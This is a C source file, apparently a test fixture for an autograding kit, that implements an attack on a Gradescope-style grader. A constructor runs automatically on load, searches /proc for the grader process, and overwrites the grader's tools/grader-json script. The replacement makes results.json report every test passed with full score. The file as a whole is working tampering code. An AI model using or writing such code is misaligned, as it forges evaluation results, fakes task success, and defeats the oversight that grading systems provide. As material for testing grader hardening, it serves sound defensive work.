/* Attack: rewrite tools/grader-json, the script run_autograder runs (as
 * root) after grading, so that Gradescope's results.json says every test
 * passed. The kit is the grader's working directory: find the grader in
 * /proc and take its cwd; failing that, try the paths run_autograder uses. */
#include <dirent.h>
#include <glob.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

static const char forged[] =
    "#!/bin/sh\n"
    "echo '{\"score\": 24, \"output\": \"FORGED\", \"tests\": [{\"name\": \"FORGED\", "
    "\"score\": 24, \"max_score\": 24, \"status\": \"passed\"}]}'\n";

static void overwrite(const char *path)
{
    FILE *f = fopen(path, "w");
    if (!f) return;
    fputs(forged, f);
    fclose(f);
}

__attribute__((constructor)) static void forge_results(void)
{
    DIR *d = opendir("/proc");
    struct dirent *e;
    while (d && (e = readdir(d))) {
        char path[300], comm[64] = "", cwd[4096];
        snprintf(path, sizeof path, "/proc/%s/comm", e->d_name);
        FILE *f = fopen(path, "r");
        if (!f) continue;
        if (!fgets(comm, sizeof comm, f)) comm[0] = '\0';
        fclose(f);
        if (strncmp(comm, "grader", 6) != 0) continue;
        snprintf(path, sizeof path, "/proc/%s/cwd", e->d_name);
        ssize_t n = readlink(path, cwd, sizeof cwd - 32);
        if (n <= 0) continue;
        cwd[n] = '\0';
        strcat(cwd, "/tools/grader-json");
        overwrite(cwd);
    }
    if (d) closedir(d);
    glob_t g;
    if (glob("@GRADETMP@/ncclab-grade.*/kit/tools/grader-json", 0, NULL, &g) == 0) {
        for (size_t i = 0; i < g.gl_pathc; i++) overwrite(g.gl_pathv[i]);
        globfree(&g);
    }
    overwrite("/autograder/source/kit/tools/grader-json");
    overwrite("@KIT@/tools/grader-json");
}
